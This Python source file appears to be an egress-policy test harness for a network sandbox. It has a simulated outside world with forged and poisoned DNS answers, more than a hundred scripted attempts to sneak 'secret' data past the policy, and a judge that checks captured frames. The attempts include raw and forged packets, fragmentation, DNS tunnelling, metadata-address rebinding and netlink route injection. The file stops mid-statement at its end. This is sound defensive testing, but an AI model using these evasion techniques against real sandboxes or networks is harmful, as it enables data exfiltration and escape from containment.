# SPDX-License-Identifier: Apache-2.0
"""
The three parts of egress.sh.

world FILE      outside, in its own network namespace: writes each frame that the sandbox sends to FILE
                as a line of hex; answers DNS, HTTP and TCP on all addresses that are routed to it
attempts        inside: tries to get round the policy, a mark (a datagram that the policy allows) before
                each try, and one line of what the caller saw
judge FILE MODE policy: nothing but what is allowed may be in FILE; control: each attempt must have left
                something in it
"""
import ctypes, http.server, os, random, select, socket, struct, sys, threading, time
import urllib.request

GATE, SERVER, BOX = "203.0.113.1", "203.0.113.53", "203.0.113.2"
GATE6, BOX6 = "2001:db8:77::1", "2001:db8:77::2"
GOOD, CDN, CANON = "192.0.2.80", "192.0.2.81", "192.0.2.83"
MARK, HTTP, TLS, INSIDE = 9999, 8080, 443, 7000
ZONE = {
    "good.example": [GOOD], "a.cdn.example": [CDN], "rebind.cdn.example": ["10.0.0.5"],
    "meta.cdn.example": ["169.254.169.254"], "self.cdn.example": ["127.0.0.1"],
    "mixed.cdn.example": [CDN, "192.168.7.7"], "mapped.cdn.example": ["::ffff:10.0.0.6"],
    "nat64.cdn.example": ["64:ff9b::10.0.0.7"], "spoof.cdn.example": [CDN], "poison.cdn.example": [CDN],
    "cname.cdn.example": [CANON],
}


# ---------------------------------------------------------------- DNS by hand

def wire_name(name):
    return b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l) + b"\0"


def query(name, qtype=1, qid=0x4242, qclass=1, extra=b"", counts=(1, 0, 0, 0)):
    if isinstance(name, str):
        name = wire_name(name)
    return struct.pack(">HHHHHH", qid, 0x0100, *counts) + name + struct.pack(">HH", qtype, qclass) + extra


def read_question(m):
    labels, at = [], 12
    while m[at]:
        labels.append(m[at + 1:at + 1 + m[at]].decode("latin-1"))
        at += m[at] + 1
    return ".".join(labels), struct.unpack_from(">HH", m, at + 1), at + 5


def answer(m, shift=0, first=b""):
    """An answer to query m from ZONE; shift: a wrong id; first: records put in front."""
    name, (qtype, _), end = read_question(m)
    out, n = first, 1 if first else 0
    if name == "cname.cdn.example":
        out += b"\xc0\x0c" + struct.pack(">HHIH", 5, 1, 60, len(wire_name("t.evil.example"))) + wire_name("t.evil.example")
        owner, n = wire_name("t.evil.example"), n + 1
    else:
        owner = b"\xc0\x0c"
    for a in ZONE.get(name.lower(), ["198.51.100.200"]):
        v6 = ":" in a
        if qtype == (28 if v6 else 1):
            data = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, a)
            out += owner + struct.pack(">HHIH", qtype, 1, 60, len(data)) + data
            n += 1
    (qid,) = struct.unpack_from(">H", m)
    return struct.pack(">HHHHHH", (qid + shift) & 0xFFFF, 0x8180, 1, n, 0, 0) + m[12:end] + out


# ---------------------------------------------------------------- outside

def serve_dns():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((SERVER, 53))
    while True:
        m, peer = u.recvfrom(4096)
        try:
            name = read_question(m)[0]
            if name == "spoof.cdn.example":  # forgeries first: another id, another question
                ZONE[name] = ["198.51.100.66"]
                u.sendto(answer(m, shift=1), peer)
                u.sendto(answer(m[:12] + wire_name("x.cdn.example") + m[-15:]), peer)
                ZONE[name] = [CDN]
            first = b""
            if name == "poison.cdn.example":
                first = wire_name("other.example") + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("198.51.100.67")
            u.sendto(answer(m, first=first), peer)
        except Exception:
            pass


class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"fine"
        self.send_response(302 if self.path == "/redirect" else 200)
        if self.path == "/redirect":
            self.send_header("Location", "http://198.51.100.7:8080/stolen")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def world(path):
    for port in (HTTP, TLS, 80):
        s = http.server.ThreadingHTTPServer(("0.0.0.0", port), Redirect)
        threading.Thread(target=s.serve_forever, daemon=True).start()
    threading.Thread(target=serve_dns, daemon=True).start()
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    cap.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    cap.bind(("veth", 0))
    with open(path, "w") as f:
        print("ready", flush=True)
        while True:
            frame, info = cap.recvfrom(65536)
            if info[2] != socket.PACKET_OUTGOING:
                f.write(frame[:400].hex() + "\n")
                f.flush()


# ---------------------------------------------------------------- inside

TRIES = []
RESOLVER = os.environ.get("RESOLVER", SERVER)


def attempt(name, weak=False):
    """weak: nothing leaves even without a policy, for the reason in the name."""
    def add(fn):
        TRIES.append((name, fn, weak))
        return fn
    return add


def quick(s):
    s.settimeout(0.25)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return s


def tcp(addr, port=HTTP, **opt):
    s = quick(socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET))
    with s:
        if opt.get("dev"):
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        s.connect((addr, port, 0, socket.if_nametoindex("eth0")) if addr.startswith("fe80") else (addr, port))


def udp(addr, port=4000, data=b"secret", flags=0, opts=(), **kw):
    with socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM, kw.get("proto", 0)) as s:
        for o in opts:
            s.setsockopt(*o)
        s.sendto(data, flags, (addr, port, 0, socket.if_nametoindex("eth0")) if addr.startswith(("fe80", "ff02"))
                 else (addr, port))


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def ipv4(dst, proto, body, src=BOX, frag=0, opts=b"", ident=7):
    h = struct.pack(">BBHHHBBH4s4s", 0x45 + len(opts) // 4, 0, 20 + len(opts) + len(body), ident, frag, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst)) + opts
    return h[:10] + struct.pack(">H", checksum(h)) + h[12:] + body


def tcp_header(dport, flags=2, sport=5555):
    return struct.pack(">HHIIBBHHH", sport, dport, 1, 0, 0x50, flags, 1000, 0, 0)


def udp_header(dport, body=b"secret", sport=5555):
    return struct.pack(">HHHH", sport, dport, 8 + len(body), 0) + body


def raw(packet, to):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet, (to, 0))


def raw_proto(proto, body, to):
    v6 = ":" in to
    with socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW, proto) as s:
        s.sendto(body, (to, 0, 0, socket.if_nametoindex("eth0")) if to.startswith(("ff02", "fe80")) else (to, 0))


def ask(name, qtype=1, tcp_too=False, **kw):
    m = query(name, qtype, **kw)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp_too else socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((RESOLVER, 53))
        s.send(struct.pack(">H", len(m)) + m if tcp_too else m)
        s.recv(4096)


def lookup(name, qtype=1):
    """Addresses by the sandbox's resolver, as a program would ask."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((RESOLVER, 53))
        s.send(query(name, qtype))
        m = s.recv(4096)
    n, at, out = struct.unpack_from(">H", m, 6)[0], read_question(m)[2], []
    for _ in range(n):
        if m[at] < 0xC0:
            while m[at]:
                at += m[at] + 1
            at -= 1
        t, _, _, size = struct.unpack_from(">HHIH", m, at + 2)
        if t in (1, 28):
            out.append(socket.inet_ntop(socket.AF_INET if t == 1 else socket.AF_INET6, m[at + 12:at + 12 + size]))
        at += 12 + size
    return out


V4 = [(GATE, 81), (GATE, 22), (GATE, 53), (GATE, 443), (GATE, 9999), ("203.0.113.9", HTTP), ("198.51.100.7", HTTP),
      ("198.51.100.7", 443), ("10.0.0.1", 80), ("172.16.0.1", 80), ("192.168.1.1", 80), ("100.64.0.1", 80),
      ("169.254.169.254", 80), ("169.254.170.2", 80), ("168.63.129.16", 80), ("100.100.100.200", 80), ("192.0.0.192", 80),
      (SERVER, 53), (SERVER, 853), ("8.8.8.8", 53), ("8.8.8.8", 853), ("8.8.8.8", 443), ("1.1.1.1", 443),
      (GOOD, 80), (GOOD, 444), (CDN, 22), ("192.0.2.79", 443), ("198.18.0.1", 80)]
V6 = [("2001:db8:1::1", HTTP), (GATE6, HTTP), ("fd00:ec2::254", 80), ("fd12::1", 80), ("fe80::1234", 80),
      ("64:ff9b::198.51.100.7", HTTP), ("64:ff9b::169.254.169.254", 80), ("2002:c633:6407::1", HTTP),
      ("2001:0:c633:6407::3fff:fdfd", HTTP), ("::ffff:198.51.100.7", HTTP), ("::ffff:169.254.169.254", 80),
      ("::ffff:203.0.113.1", 81), ("::198.51.100.7", HTTP), ("::ffff:0:198.51.100.7", HTTP), ("2001:4860:4860::8888", 53)]
for a, p in V4 + V6:
    TRIES.append(("tcp to %s port %d" % (a, p), lambda a=a, p=p: tcp(a, p), False))
for a, p in [(GATE, 4000), (GATE, 8080), ("198.51.100.7", 9999), ("10.0.0.1", 4000), ("169.254.169.254", 80), ("8.8.8.8", 443),
             ("203.0.113.77", 4000), (GATE6, 9999), ("2001:db8:1::1", 4000), ("fd00:ec2::254", 80), ("fe80::1235", 4000),
             ("64:ff9b::203.0.113.1", 4000), ("::ffff:198.51.100.7", 4000), ("255.255.255.255", 67), ("203.0.113.255", 9999),
             ("224.0.0.251", 5353), ("239.1.2.3", 4000), ("ff02::1", 4000), ("ff02::fb", 5353)]:
    b = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)] if a.endswith("255") else []
    TRIES.append(("udp to %s port %d" % (a, p), lambda a=a, p=p, b=b: udp(a, p, opts=b), False))


@attempt("an allowed connection's socket, AF_UNSPEC, then elsewhere")
def _():
    s = quick(socket.create_connection((GATE, HTTP), 3))
    unspec = (ctypes.c_char * 16)()
    ctypes.CDLL(None).connect(s.fileno(), unspec, 16)
    s.connect(("198.51.100.7", HTTP))


@attempt("an accepted connection's socket, AF_UNSPEC, then elsewhere")
def _():
    l = socket.create_server((BOX, 0))
    c = socket.create_connection(l.getsockname())
    s = quick(l.accept()[0])
    ctypes.CDLL(None).connect(s.fileno(), (ctypes.c_char * 16)(), 16)
    s.connect(("198.51.100.7", HTTP))


@attempt("an adopted descriptor, reconnected by a child")
def _():
    a, b = socket.socketpair()
    s = quick(socket.create_connection((GATE, HTTP), 3))
    socket.send_fds(a, [b"x"], [s.fileno()])
    s.close()
    if not os.fork():
        try:
            t = quick(socket.socket(fileno=socket.recv_fds(b, 1, 1)[1][0]))
            ctypes.CDLL(None).connect(t.fileno(), (ctypes.c_char * 16)(), 16)
            t.connect(("198.51.100.8", HTTP))
        finally:
            os._exit(0)
    os.wait()


@attempt("a non-blocking connect")
def _():
    with socket.socket() as s:
        s.setblocking(False)
        e = s.connect_ex(("198.51.100.7", HTTP))
        time.sleep(0.05)
        raise OSError(e, "connect_ex")


attempt("SO_BINDTODEVICE")(lambda: tcp("198.51.100.7", HTTP, dev=True))
attempt("TCP fast open (not served yet)", weak=True)(lambda: quick(socket.socket()).sendto(b"secret", 0x20000000, ("198.51.100.7", HTTP)))
attempt("a redirect from an allowed server")(
    lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
        "http://%s:%d/redirect" % (GATE, HTTP), timeout=1))


@attempt("a source port that is allowed as a destination")
def _():
    with quick(socket.socket()) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", HTTP))
        s.connect(("198.51.100.7", 81))


@attempt("UDP connected to an allowed place, sent elsewhere")
def _():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.connect((GATE, MARK))
        s.sendto(b"secret", ("198.51.100.7", MARK))


@attempt("UDP connected to an allowed place, then elsewhere")
def _():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.connect((GATE, MARK))
        s.connect(("198.51.100.7", MARK))
        s.send(b"secret")


@attempt("sendmmsg with a second destination")
def _():
    class Iov(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]

    class Hdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(Iov)),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int), ("pad", ctypes.c_int), ("sent", ctypes.c_uint), ("pad2", ctypes.c_uint)]
    to = [struct.pack("=H", 2) + struct.pack(">H", MARK) + socket.inet_aton(a) + bytes(8) for a in (GATE, "198.51.100.7")]
    io = [Iov(b"MARKed", 6), Iov(b"secret", 6)]
    v = (Hdr * 2)(*[Hdr(to[i], 16, ctypes.pointer(io[i]), 1) for i in range(2)])
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        n = ctypes.CDLL(None, use_errno=True).sendmmsg(s.fileno(), v, 2, 0)
        if n != 2:
            raise OSError(ctypes.get_errno(), "sendmmsg gave %d" % n)


attempt("a datagram in fragments")(lambda: udp("198.51.100.7", 4000, b"s" * 4000))
attempt("a datagram in fragments, IPv6")(lambda: udp("2001:db8:1::1", 4000, b"s" * 4000))
attempt("UDP_SEGMENT")(lambda: udp("198.51.100.7", 4000, b"s" * 2000, opts=[(17, 103, 500)]))
attempt("UDP-Lite")(lambda: udp("198.51.100.7", 4000, proto=136))
attempt("MSG_DONTROUTE")(lambda: udp("203.0.113.78", 4000, flags=socket.MSG_DONTROUTE))
attempt("TTL 1")(lambda: udp("198.51.100.7", 4000, opts=[(0, socket.IP_TTL, 1)]))
attempt("IP_MULTICAST_IF")(lambda: udp("239.1.2.4", 4000, opts=[(0, socket.IP_MULTICAST_IF, socket.inet_aton(BOX))]))


@attempt("IP_PKTINFO with another's source (refused by the stack anyway)", weak=True)
def _():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.sendmsg([b"secret"], [(0, 8, struct.pack("i4s4s", 0, socket.inet_aton("203.0.113.200"), bytes(4)))], 0,
                  (GATE, MARK + 1))


@attempt("IPV6_PKTINFO with the interface")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.sendmsg([b"secret"], [(41, 50, socket.inet_pton(socket.AF_INET6, BOX6) + struct.pack("i", socket.if_nametoindex("eth0")))],
                  0, ("2001:db8:1::1", MARK))


@attempt("an answer to another port than the one that asked")
def _():
    udp(GATE, MARK + 2)


# ICMP
ECHO = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"secret!!"
ECHO = ECHO[:2] + struct.pack(">H", checksum(ECHO)) + ECHO[4:]


@attempt("a ping socket")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(ECHO, ("198.51.100.7", 0))


@attempt("a ping socket, IPv6")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as s:
        s.sendto(b"\x80\0\0\0\0\1\0\1secret", ("2001:db8:1::1", 0))


attempt("ping of an allowed host")(lambda: raw_proto(1, ECHO, GATE))
attempt("raw ICMP echo")(lambda: raw_proto(1, ECHO, "198.51.100.7"))
attempt("raw ICMP redirect")(lambda: raw_proto(1, b"\5\1\xfa\xfe\0\0\0\0", "203.0.113.79"))
attempt("raw ICMPv6 router solicitation")(lambda: raw_proto(58, b"\x85\0\0\0\0\0\0\0", "ff02::2"))
attempt("raw ICMPv6 neighbour solicitation")(lambda: raw_proto(58, b"\x87\0\0\0" + bytes(4) + bytes(16), "ff02::1"))
attempt("raw ICMPv6 echo")(lambda: raw_proto(58, b"\x80\0\0\0\0\1\0\1secret", GATE6))
# other protocols
for _p in (4, 41, 47, 50, 103, 132):
    TRIES.append(("protocol %d to an allowed host" % _p, lambda p=_p: raw_proto(p, b"secretsecretsecretsecret", GATE), False))
attempt("raw TCP SYN")(lambda: raw_proto(6, tcp_header(81), GATE))
attempt("raw UDP")(lambda: raw_proto(17, udp_header(4000), GATE))
attempt("raw UDP, IPv6")(lambda: raw_proto(17, udp_header(4000), GATE6))
attempt("raw TCP, no ports to see")(lambda: raw_proto(6, b"\0\0", GATE))
# headers by hand
attempt("hdrincl SYN")(lambda: raw(ipv4("198.51.100.7", 6, tcp_header(80)), "198.51.100.7"))
attempt("hdrincl, header to another place than sendto")(lambda: raw(ipv4("198.51.100.7", 17, udp_header(MARK)), GATE))
attempt("hdrincl, source forged, allowed place")(lambda: raw(ipv4(GATE, 17, udp_header(MARK), src="203.0.113.200"), GATE))
attempt("hdrincl, source loopback")(lambda: raw(ipv4(GATE, 17, udp_header(MARK), src="127.0.0.1"), GATE))
attempt("hdrincl, source forged, elsewhere")(lambda: raw(ipv4("198.51.100.7", 17, udp_header(53), src="192.0.2.9"), "198.51.100.7"))
attempt("later fragment to an allowed port's host")(lambda: raw(ipv4(GATE, 17, b"secretss", frag=1), GATE))
attempt("later fragment, far")(lambda: raw(ipv4(GATE, 6, b"secretss", frag=0x2064), GATE))
attempt("first fragment too short for ports")(lambda: raw(ipv4(GATE, 17, b"\0\1", frag=0x2000), GATE))
attempt("loose source route through an allowed host")(
    lambda: raw(ipv4(GATE, 17, udp_header(MARK), opts=b"\x83\7\4" + socket.inet_aton("198.51.100.7") + b"\0"), GATE))
attempt("strict source route through an allowed host")(
    lambda: raw(ipv4(GATE, 17, udp_header(MARK), opts=b"\x89\7\4" + socket.inet_aton("198.51.100.7") + b"\0"), GATE))
attempt("record route to elsewhere")(
    lambda: raw(ipv4("198.51.100.7", 17, udp_header(MARK), opts=b"\7\7\4" + bytes(4) + b"\0"), "198.51.100.7"))
attempt("a broken option")(lambda: raw(ipv4(GATE, 17, udp_header(MARK), opts=b"\7\xff\4\0"), GATE))
attempt("hdrincl DNS to another server")(lambda: raw(ipv4("8.8.8.8", 17, udp_header(53, query("x.evil.example"))), "8.8.8.8"))
attempt("hdrincl DNS to the permitted server")(lambda: raw(ipv4(SERVER, 17, udp_header(53, query("x.evil.example"))), SERVER))
attempt("a forged connection as if it were allowed")(
    lambda: raw(ipv4("198.51.100.7", 6, tcp_header(HTTP, flags=0x18)), "198.51.100.7"))
attempt("hdrincl ESP")(lambda: raw(ipv4(GATE, 50, b"secretss"), GATE))
# IPv6 extension headers by raw sockets of their protocols
attempt("routing header to an allowed family's host")(
    lambda: raw_proto(43, bytes([17, 2, 0, 1]) + bytes(4) + socket.inet_pton(socket.AF_INET6, "2001:db8:1::1") + udp_header(MARK), GATE6))
attempt("destination options, then UDP")(lambda: raw_proto(60, bytes([17, 0, 1, 4]) + bytes(4) + udp_header(MARK), GATE6))
attempt("fragment header, then UDP")(lambda: raw_proto(44, bytes([17, 0, 0, 1]) + b"\0\0\0\7" + udp_header(MARK), GATE6))
attempt("no next header")(lambda: raw_proto(59, b"secret", GATE6))
# answers that the stack would send by itself to whom a packet on loopback claims to be from
attempt("reflected ICMP error")(lambda: raw(ipv4("127.0.0.1", 17, udp_header(1), src="198.51.100.7"), "127.0.0.1"))
attempt("reflected reset")(lambda: raw(ipv4("127.0.0.1", 6, tcp_header(1), src="198.51.100.7"), "127.0.0.1"))
attempt("reflected echo reply")(lambda: raw(ipv4("127.0.0.1", 1, ECHO, src="198.51.100.7"), "127.0.0.1"))


@attempt("reflected SYN-ACK")
def _():
    with socket.create_server(("127.0.0.1", 0)) as l:
        p = l.getsockname()[1]
        seg = tcp_header(p)
        pseudo = socket.inet_aton("198.51.100.7") + socket.inet_aton("127.0.0.1") + struct.pack(">BBH", 0, 6, len(seg))
        seg = seg[:16] + struct.pack(">H", checksum(pseudo + seg)) + seg[18:]
        raw(ipv4("127.0.0.1", 6, seg, src="198.51.100.7"), "127.0.0.1")
        time.sleep(0.1)


def frame(ethertype, body, dst=b"\xff" * 6):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype)) as s:
        s.bind(("eth0", 0))
        s.send(dst + s.getsockname()[4] + struct.pack(">H", ethertype) + body)


def packet_sockets():
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
        return True
    except OSError:
        return False


_weak = not packet_sockets() if sys.argv[1:2] == ["attempts"] else False
for _n, _t, _b in [("IPv4 to elsewhere", 0x0800, ipv4("198.51.100.7", 17, udp_header(MARK))),
                   ("IPv4 to an allowed host's other port", 0x0800, ipv4(GATE, 17, udp_header(4000))),
                   ("ARP for a chosen address", 0x0806, b"\0\1\x08\0\6\4\0\1" + bytes(6) + socket.inet_aton(BOX) + bytes(6) + b"evil"),
                   ("IPv6 under IPv4's type", 0x0800, b"\x60" + bytes(45)), ("LLDP", 0x88CC, b"secret" * 10),
                   ("VLAN", 0x8100, b"\0\1\x08\0" + ipv4(GATE, 17, udp_header(MARK)))]:
    TRIES.append(("packet socket: " + _n, lambda t=_t, b=_b: frame(t, b), _weak))


def netlink(kind, header, attrs):
    body = header + b"".join(struct.pack("=HH", 4 + len(v), t) + v + bytes(-len(v) % 4) for t, v in attrs)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        err = struct.unpack_from("=i", s.recv(4096), 16)[0]
        if err:
            raise OSError(-err, "netlink")


@attempt("a route of one's own to an allowed name's address over another neighbour")
def _():
    try:
        netlink(24, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0),
                [(1, socket.inet_aton(GOOD)), (5, socket.inet_aton("203.0.113.99")), (4, struct.pack("=i", socket.if_nametoindex("eth0")))])
    except OSError:
        return
    try:
        tcp(GOOD, 443)
    finally:
        netlink(25, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0), [(1, socket.inet_aton(GOOD))])


@attempt("an address of one's own as the source")
def _():
    try:
        netlink(20, struct.pack("=BBBBI", 2, 32, 0, 0, socket.if_nametoindex("eth0")), [(2, socket.inet_aton("203.0.113.222"))])
    except OSError:
        return
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.bind(("203.0.113.222", 0))
        s.sendto(b"secret", (GATE, MARK + 3))


# names
for _name in ["evil.example", "%08x.evil.example" % random.getrandbits(32), "good.example.evil.example", "evilgood.example",
              "xgood.example", "good.example2", "ood.example", "good.exampl", "example", "cdn.example", "acdn.example",
              "www.good.example", "cdn.example.evil.example", "xn--good-xyz.example", "metadata.google.internal",
              "8.8.8.8.in-addr.arpa", "EVIL.EXAMPLE", "evil.example.", "_dns.resolver.arpa"]:
    TRIES.append(("name " + _name, lambda n=_name: ask(n), False))
attempt("name with a NUL")(lambda: ask(b"\4good\7exa\0ple\0"))
attempt("name good.example NUL evil")(lambda: ask(b"\x11good.example\0evil\7example\0"))
attempt("a dot within a label")(lambda: ask(b"\x0cgood.example\0"))
attempt("a label of 8-bit bytes")(lambda: ask(b"\4g\xf6od\7example\0"))
attempt("two questions")(lambda: ask("good.example", extra=wire_name("evil.example") + b"\0\1\0\1", counts=(2, 0, 0, 0)))
attempt("TXT of another name")(lambda: ask("secret.evil.example", 16))
attempt("zone transfer")(lambda: ask("good.example", 252))
attempt("all types")(lambda: ask("good.example", 255))
attempt("class CHAOS")(lambda: ask("version.bind", 16, qclass=3))
attempt("a name by TCP")(lambda: ask("evil.example", tcp_too=True))
attempt("bytes in an EDNS option")(
    lambda: ask("good.example", extra=b"\0\0\x29\4\xd0\0\0\0\0\0\x0a\xfd\xe9\0\6secret", counts=(1, 0, 0, 1)))
attempt("bits in the case of letters")(lambda: ask("gOOd.eXaMpLe"))
attempt("bytes behind the question")(lambda: ask("good.example", extra=b"secret"))
attempt("the id of the query")(lambda: ask("good.example", qid=0x5EC2))
for _name, _a, _t in [("rebind.cdn.example", "10.0.0.5", 1), ("meta.cdn.example", "169.254.169.254", 1),
                      ("mixed.cdn.example", "192.168.7.7", 1), ("mapped.cdn.example", "::ffff:10.0.0.6", 28),
                      ("nat64.cdn.example", "64:ff9b::10.0.0.7", 28), ("spoof.cdn.example", "198.51.100.66", 1),
                      ("poison.cdn.example", "198.51.100.67", 1)]:
    def _go(n=_name, a=_a, t=_t):
        got = lookup(n, t)
        if a in got and RESOLVER != SERVER:
            print("LEAK %s gave %s" % (n, a))
        tcp(a, 443)
    TRIES.append(("rebinding: %s as %s" % (_name, _a), _go, False))
attempt("an allowed name's address, another port")(lambda: (lookup("good.example"), tcp(GOOD, 80)))
attempt("an allowed name's address, UDP")(lambda: (lookup("good.example"), udp(GOOD, 443)))
attempt("an allowed name's address, ping")(lambda: raw_proto(1, ECHO, GOOD))


def fine():
    """What the policy allows must work."""
    assert RESOLVER == SERVER or lookup("self.cdn.example") == []
    assert lookup("good.example") == [GOOD] and lookup("GOOD.example.") == [GOOD]
    quick(socket.create_connection((GOOD, 443), 3)).close()
    assert lookup("a.cdn.example") == [CDN]
    quick(socket.create_connection((CDN, 443), 3)).close()
    assert lookup("cname.cdn.example") == [CANON]
    quick(socket.create_connection((CANON, 443), 3)).close()
    with socket.create_connection((GATE, HTTP), 3) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        assert b"fine" in s.makefile("rb").read()
    with socket.create_server(("127.0.0.1", 0)) as l, socket.create_connection(l.getsockname()):
        pass
    with socket.create_server((BOX, 0)) as l, socket.create_connection(l.getsockname()):
        pass


def inside_servers():
    """Connections from outside are answered: TCP and UDP."""
    l = socket.create_server(("0.0.0.0", INSIDE))
    u = socket.socket(type=socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", INSIDE))
    seen = set()
    end = time.time() + 20
    while seen != {"tcp", "udp"} and time.time() < end:
        for s in select.select([l, u], [], [], 1)[0]:
            if s is l:
                c = l.accept()[0]
                c.sendall(b"hello from inside")
                c.close()
                seen.add("tcp")
            else:
                d, peer = u.recvfrom(100)
                u.sendto(b"hello " + d, peer)
                seen.add("udp")
    print("served", *sorted(seen))


def attempts():
    mark = socket.socket(type=socket.SOCK_DGRAM)
    tcp_ok = quick(socket.create_connection((GATE, HTTP), 5))
    tcp_ok.close()
    try:
        udp(GATE6, 1)  # the neighbour is asked for once, so that later packets do not wait for it
        time.sleep(0.3)
    except OSError:
        pass
    fine()
    print("allowed works", flush=True)
    for i, (name, fn, weak) in enumerate(TRIES):
        mark.sendto(b"MARK %d" % i, (GATE, MARK))
        try:
            fn()
            how = "went through"
        except Exception as e:
            how = "%s %s" % (type(e).__name__, e)
        print("%d\t%d\t%s\t%s" % (i, weak, name, how), flush=True)
        time.sleep(0.03)
    mark.sendto(b"MARK %d" % len(TRIES), (GATE, MARK))
    fine()
    print("allowed still works", flush=True)
    inside_servers()
    mark.sendto(b"MARK %d" % (len(TRIES) + 1), (GATE, MARK))


# ---------------------------------------------------------------- the judge

def is_allowed(f):
    """A frame that the policy allows, down to the bytes of a DNS question."""
    kind = struct.unpack_from(">H", f, 12)[0]
    b = f[14:]
    if kind == 0x0806:
        op, target = struct.unpack_from(">H", b, 6)[0], socket.inet_ntoa(b[24:28])
        return target in (GATE, SERVER) if op == 1 else op == 2
    if kind == 0x86DD:
        # Neighbours: asked for the gateway, answered for ourselves.
        return b[6] == 58 and b[40] == 136 or (b[40] == 135 and b[48:64] == socket.inet_pton(socket.AF_INET6, GATE6))
    if kind != 0x0800 or b[0] != 0x45 or struct.unpack_from(">H", b, 6)[0] & 0x3FFF:
        return False
    src, dst, proto = socket.inet_ntoa(b[12:16]), socket.inet_ntoa(b[16:20]), b[9]
    if src != BOX or proto not in (6, 17) or len(b) < 28:
        return False
    sport, dport = struct.unpack_from(">HH", b, 20)
    if proto == 6:
        return (dst, dport) in ((GATE, HTTP), (GOOD, 443), (CDN, 443), (CANON, 443)) or sport == INSIDE
    data = b[28:]
    if (dst, dport) == (GATE, MARK):
        return data.startswith(b"MARK")
    if (dst, dport) == (SERVER, 53):
        name = read_question(data)[0]
        return name in ZONE and data[2:] in [query(name, t, extra=b"\0\0\x29\4\xd0\0\0\0\0\0\0", counts=(1, 0, 0, 1))[2:]
                                             for t in (1, 28)]
    return sport == INSIDE and dst == GATE


def judge(path, mode, lines):
    frames = [bytes.fromhex(l) for l in open(path).read().split("\n") if l]
    if mode == "silent":  # no IPv4 at all, and nobody asked for
        bad = [f for f in frames if f[12:14] == b"\x08\0" or (f[12:14] == b"\x08\6" and f[21] == 1)]
        print("%d frames, %d of them not allowed" % (len(frames), len(bad)))
        sys.exit(bool(bad))
    tries = [l.split("\t") for l in open(lines).read().split("\n") if l.count("\t") == 3]
    now, seen, begun = -1, {}, False
    for f in frames:
        # Until the guest's first connection it is the host's own IPv6 that says goodbye to its groups.
        begun = begun or (f[12:14] == b"\x08\0" and f[23] == 6 and socket.inet_ntoa(f[30:34]) == GATE)
        if not begun:
            continue
        at = f.find(b"MARK ")
        if f[12:14] == b"\x08\0" and f[23] == 17 and at == 42:
            now = int(f[47:])
            if now > len(tries):
                break  # the end: the host takes its addresses back and says so
        elif not is_allowed(f):
            seen.setdefault(now, []).append(f)
    if mode == "policy":
        for n, fs in seen.items():
            print("LEAK at attempt %s: %s" % (tries[n][2] if 0 <= n < len(tries) else n, fs[0][:120].hex()))
        print("%d attempts, %d frames, %d of them not allowed" % (len(tries), len(frames), sum(map(len, seen.values()))))
        sys.exit(bool(seen) or len(tries) < 100)
    missing = [t for t in tries if int(t[0]) not in seen and t[1] == "0"]
    for t in missing:
        print("not seen without a policy: %s (%s)" % (t[2], t[3]))
    print("%d attempts, %d seen by the capture" % (len(tries), len(seen)))
    sys.exit(bool(missing) or len(seen) < 100)


if sys.argv[1] == "world":
    world(sys.argv[2])
elif sys.argv[1] == "attempts":
    attempts()
else:
